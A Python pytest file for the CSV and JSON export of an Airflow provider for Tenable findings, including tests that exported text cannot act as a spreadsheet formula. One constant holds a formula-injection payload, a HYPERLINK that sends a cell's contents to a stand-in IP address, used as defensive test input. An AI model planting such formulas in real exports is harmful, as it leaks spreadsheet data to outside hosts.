"""The exports: numbers as they are, texts that no spreadsheet takes for a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from airflow_provider_tenable.staging.files import write_json
from airflow_provider_tenable.ui.export import TABLES, as_csv, as_json, cell
from airflow_provider_tenable.ui.snapshot import Rejected, Snapshot, read_snapshot
from tests.page_samples import DAG_ID, history_entry, write_samples

FORMULA = '=HYPERLINK("http://203.0.113.1/?"&A1,"click")'


def rows(snapshot: Snapshot, table: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(as_csv(snapshot, table).decode(), newline="")))


@pytest.fixture
def snapshot(tmp_path: Path) -> Snapshot:
    write_samples(tmp_path)
    return read_snapshot(f"file://{tmp_path}", DAG_ID)


def test_runs_have_their_counts(snapshot: Snapshot) -> None:
    found = rows(snapshot, "runs")
    assert len(found) == 45
    first = found[0]
    assert (first["run_id"], first["at"], first["complete"]) == ("scheduled__00000", "2026-11-27T00:00:00Z", "yes")
    assert (first["exported"], first["skipped"], first["rejected"], first["archived"]) == ("1200", "190", "2", "82")


def test_a_run_without_ledger_has_empty_counts(tmp_path: Path) -> None:
    folder = write_samples(tmp_path)
    entry = {"run_id": "r", "at": 0, "complete": False, "dry_run": False, "title": "no plan"}
    write_json(folder.history, {"version": 1, "runs": [entry]})
    [row] = rows(read_snapshot(f"file://{tmp_path}", DAG_ID), "runs")
    assert {row[name] for name in ("exported", "skipped", "rejected", "archived")} == {""}


def test_places_have_every_severity(snapshot: Snapshot) -> None:
    first = rows(snapshot, "places")[0]
    assert first == {
        "account": "111122223333",
        "region": "eu-west-1",
        "critical": "3",
        "high": "40",
        "medium": "90",
        "low": "30",
        "info": "0",
        "median_days": "12",
        "oldest_days": "200",
        "overdue": "5",
    }


def test_accounts_that_are_not_served_have_what_to_do(snapshot: Snapshot) -> None:
    assert rows(snapshot, "unserved") == [
        {
            "account": "222233334444",
            "reason": "account_not_configured",
            "records": "40",
            "what_to_do": "add the account to a destination",
        }
    ]


@pytest.mark.parametrize("table", TABLES)
def test_nothing_is_a_header_alone(table: str) -> None:
    assert as_csv(Snapshot(DAG_ID), table).count(b"\n") == 1


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "\uff1d", "\x00="])
def test_no_text_is_a_formula(start: str) -> None:
    text = f"{start}1+1"
    assert str(cell(text))[0] not in "=+-@\t\r\n\uff1d"
    line = Rejected(run_id=text, account=text, region=text, code=text, message=text, title=text, id=text)
    [row] = rows(Snapshot(DAG_ID, rejected=[line]), "rejected")
    assert all(value[0] not in "=+-@\t\r\n \uff1d" for value in row.values())


def test_a_formula_between_quotes_stays_in_its_cell() -> None:
    line = Rejected(run_id="r", account="1", region="r", code="c", message=f'a","{FORMULA}', title=FORMULA, id="i")
    [row] = rows(Snapshot(DAG_ID, rejected=[line]), "rejected")
    assert row["title"] == f"'{FORMULA}"
    assert row["message"] == f'a","{FORMULA}'
    assert len(row) == 7


@pytest.mark.parametrize("number", [-3, 0, 1.5, None])
def test_numbers_are_numbers(number: Any) -> None:
    assert cell(number) == number


def test_json_has_everything(snapshot: Snapshot) -> None:
    found = json.loads(as_json(snapshot))
    assert found["dag_id"] == DAG_ID
    assert found["status"]["hubs"] == snapshot.status["hubs"]  # type: ignore[index]
    assert len(found["history"]) == 45


def test_json_of_runs_that_older_releases_noted(tmp_path: Path) -> None:
    folder = write_samples(tmp_path)
    write_json(folder.history, {"version": 1, "runs": [history_entry(0)]})
    Path(folder.status.path).unlink()
    assert json.loads(as_json(read_snapshot(f"file://{tmp_path}", DAG_ID)))["status"] is None
